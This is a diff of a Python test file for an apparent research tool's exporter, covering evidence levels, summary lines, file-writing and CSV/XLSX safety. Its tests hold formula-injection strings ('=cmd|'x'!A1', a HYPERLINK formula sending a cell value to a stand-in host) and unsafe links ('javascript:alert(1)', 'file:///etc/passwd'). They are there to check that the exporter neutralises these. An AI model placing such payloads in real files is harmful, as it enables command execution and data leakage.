@@ -11,8 +11,18 @@ from rich.console import Console
 from tests.helpers import LIGHTHOUSES, QUESTION
 from wideseek.api import Result
 from wideseek.errors import BadInput
-from wideseek.evidence import trace
-from wideseek.export import check_output, sources_table, summary_line, with_sources, write_result
+from wideseek.evidence import Evidence, Levels, trace
+from wideseek.export import (
+    CsvOptions,
+    cells_line,
+    check_output,
+    legend,
+    sources_table,
+    summary_line,
+    why_not_written,
+    with_sources,
+    write_result,
+)
 from wideseek.policy.scripted import LABEL
 from wideseek.records import Page, Rollout, Task, Trajectory, Usage
 from wideseek.table import Table
@@ -83,6 +93,14 @@ def test_the_json_has_one_evidence_per_cell(result, tmp_path):
     assert [len(row) for row in said["evidence"]] == [len(row) for row in said["rows"]]
     assert said["evidence"][0][2] == {"status": "unsupported"}
     assert said["evidence"][1][1] == {"status": "empty"}
+    assert said["cells"] == {
+        "wanted": 9,
+        "found": 8,
+        "supported": 7,
+        "mentioned": 0,
+        "unsupported": 1,
+        "empty": 1,
+    }
 
 
 def test_a_column_called_sources_is_not_overwritten(result):
@@ -98,7 +116,7 @@ def test_the_summary_says_partial_why_and_the_supported_share(result):
     line = summary_line(result)
     assert "PARTIAL (budget: 5 of 5 model calls)" in line
     assert "3 rows" in line
-    assert "88% of the cells supported" in line
+    assert "8 of 9 cells found, 7 supported, 1 unsupported" in line
 
 
 @pytest.mark.parametrize(
@@ -129,3 +147,148 @@ def test_a_pipe_gets_the_markdown_table(result):
     console = Console(width=40, force_terminal=False, record=True)
     show_result(result, console)
     assert Table.from_markdown(console.export_text()).select(["name", "height", "year"]) == result.table
+
+
+# ------------------------------------------------------------------------------------------------------------- levels
+
+
+@pytest.fixture
+def mentioned(result: Result) -> Result:
+    """The same with a cell that is mentioned, one that is tied, and one that a model was asked about."""
+    row = result.evidence[2]
+    row[1] = Evidence("mentioned", row[1].url, "Dueodde stands 47 m from the road", "lead/2.3", verdict="says nothing")
+    row[2] = Evidence("supported", row[2].url, "year: 1962", "lead/2.3", tie="label: year")
+    return result
+
+
+@pytest.mark.parametrize("ending", ["md", "csv", "json", "xlsx", "html"])
+def test_every_format_shows_what_is_mentioned_what_ties_a_cell_and_what_a_model_says(mentioned, tmp_path, ending):
+    written = write_result(mentioned, tmp_path / f"out.{ending}")
+    if ending == "xlsx":
+        sheets = load_workbook(written[0])
+        text = "\n".join(str(cell) for sheet in sheets for row in sheet.iter_rows(values_only=True) for cell in row)
+    else:
+        text = "\n".join(path.read_text() for path in written)
+    for expected in ("mentioned", "stands 47 m from the road", "label: year", "says nothing"):
+        assert expected in text
+
+
+def test_the_row_names_its_doubts_level_by_level(mentioned):
+    rows = with_sources(mentioned)[0].rows
+    assert rows[0][-1] == "[1] unsupported: year"
+    assert rows[2][-1] == "[3] mentioned: height"
+    mentioned.evidence[2] = [mentioned.evidence[2][0], mentioned.evidence[2][1], Evidence("unsupported")]
+    assert with_sources(mentioned)[0].rows[2][-1] == "[3] mentioned: height; unsupported: year"
+
+
+def test_supported_in_the_summary_is_the_first_level_only():
+    assert cells_line(Levels(25, 1, 1, 3)) == "27 of 30 cells found, 25 supported, 1 mentioned, 1 unsupported"
+    assert cells_line(Levels(0, 4, 0, 0)) == "4 of 4 cells found, 0 supported, 4 mentioned"
+    assert cells_line(Levels(1_200, 0, 0, 0)) == "1,200 of 1,200 cells found, 1,200 supported"
+    assert cells_line(Levels()) == "no cells"
+
+
+def test_a_mentioned_cell_is_marked_on_the_screen_and_never_green(mentioned):
+    console = Console(width=100, force_terminal=True, color_system="standard", record=True)
+    show_result(mentioned, console)
+    shown = console.export_text(styles=True)
+    assert "47 m\x1b[1;36m~" in shown
+    assert "1999 | x</b>\x1b[1;33m?" in shown
+    mentioned.status = "complete"
+    show_result(mentioned, console)
+    assert "\x1b[1;33mcomplete" in console.export_text(styles=True)
+    plain = Console(width=100, force_terminal=False, record=True)
+    show_result(mentioned, plain)
+    assert "mentioned: name and value stand together on a page, nothing ties the value" in plain.export_text()
+
+
+def test_the_page_gives_each_level_a_class_and_says_what_it_means(mentioned, tmp_path):
+    text = write_result(mentioned, tmp_path / "out.html")[0].read_text()
+    assert '<td class="mentioned" title="mentioned: name and value stand together' in text
+    assert 'title="“year: 1962” (tied by label: year, read by lead/2.3)"' in text
+    assert '<li><span class="mentioned"></span> mentioned: ' in text
+
+
+def test_only_levels_that_a_cell_has_are_explained(mentioned):
+    assert [mark for mark, _ in legend(mentioned)] == ["~", "?"]
+    mentioned.evidence = [[Evidence("supported"), Evidence("empty")]]
+    assert legend(mentioned) == []
+
+
+# --------------------------------------------------------------------------------------------------------- the files
+
+
+def test_where_one_of_two_files_cannot_be_written_both_stay_as_they_were(result, tmp_path):
+    (tmp_path / "out.csv").write_text("yesterday")
+    (tmp_path / "out.sources.csv").mkdir()
+    with pytest.raises(BadInput, match=r"out\.sources\.csv: cannot be written"):
+        write_result(result, tmp_path / "out.csv")
+    assert (tmp_path / "out.csv").read_text() == "yesterday"
+    assert sorted(path.name for path in tmp_path.iterdir()) == ["out.csv", "out.sources.csv"]
+
+
+def test_what_is_not_worth_a_file_is_told_apart(result):
+    assert why_not_written(result) is None
+    result.status = "failed"
+    assert why_not_written(result) == "the run failed"
+    result.status, result.table, result.evidence = "interrupted", Table(["name"]), []
+    assert why_not_written(result) == "there is no row"
+
+
+def test_the_names_of_the_csvs_columns_do_not_depend_on_who_answered(result, tmp_path):
+    headers = []
+    for label in ("", "nano, a demonstration model", LABEL):
+        result.label = label
+        files = write_result(result, tmp_path / "out.csv")
+        headers.append([path.read_text().partition("\n")[0].strip() for path in files])
+    assert headers[0] == headers[1] == headers[2]
+    assert headers[0][0] == "name,height,year,Sources"
+
+
+def spreadsheet(result: Result, name: str, label: str = "") -> Result:
+    result.table = Table(["name", "=cmd|'x'!A1"], [[name, "-84"]])
+    result.evidence, result.label = [[Evidence("unsupported"), Evidence("unsupported")]], label
+    return result
+
+
+def test_formulas_in_csv_files_are_text_unless_asked_for_raw(result, tmp_path):
+    spreadsheet(result, '=HYPERLINK("http://h.example/?"&A1,"Ostra")', "@SUM(1)")
+    safe = [path.read_text() for path in write_result(result, tmp_path / "out.csv")]
+    cells = [
+        cell
+        for text in safe
+        for table in [Table.from_csv(text)]
+        for row in [table.columns, *table.rows]
+        for cell in row
+    ]
+    assert [cell for cell in cells if cell[:1] in "=+-@" and cell not in ("", "-84")] == []
+    assert "-84" in cells
+    raw = [path.read_text() for path in write_result(result, tmp_path / "raw.csv", CsvOptions(raw=True))]
+    assert all('"=HYPERLINK(' in text for text in raw)
+
+
+def test_a_byte_order_mark_is_written_on_request(result, tmp_path):
+    spreadsheet(result, "西安坝")
+    for bom in (False, True):
+        for path in write_result(result, tmp_path / "out.csv", CsvOptions(bom=bom)):
+            assert path.read_bytes().startswith(b"\xef\xbb\xbf") == bom
+            assert Table.from_csv(path.read_text(encoding="utf-8-sig")).columns[0] in ("name", "row")
+
+
+def test_the_workbook_numbers_its_pages_and_its_addresses_can_be_followed(result, tmp_path):
+    book = load_workbook(write_result(result, tmp_path / "out.xlsx")[0])
+    assert book["table"]["D2"].value == "[1] unsupported: year"
+    number, url = book["pages"][2][0], book["pages"][2][1]
+    assert (number.value, url.value, url.hyperlink.target) == ("[1]",) + ("https://a.example/Bovbjerg",) * 2
+    assert url.data_type == "s"
+    linked = [cell for row in book["sources"].iter_rows() for cell in row if cell.hyperlink]
+    assert len(linked) == 7
+    assert not any(cell.hyperlink for row in book["table"].iter_rows() for cell in row)
+
+
+def test_only_web_addresses_become_links(result, tmp_path):
+    for url in ("javascript:alert(1)", "file:///etc/passwd", "https://a.example/" + "x" * 3_000, "https://a b"):
+        result.evidence[0][0] = Evidence("supported", url, "quote", "lead/2.1")
+        book = load_workbook(write_result(result, tmp_path / "out.xlsx")[0])
+        assert book["sources"]["E2"].value == url
+        assert book["sources"]["E2"].hyperlink is None
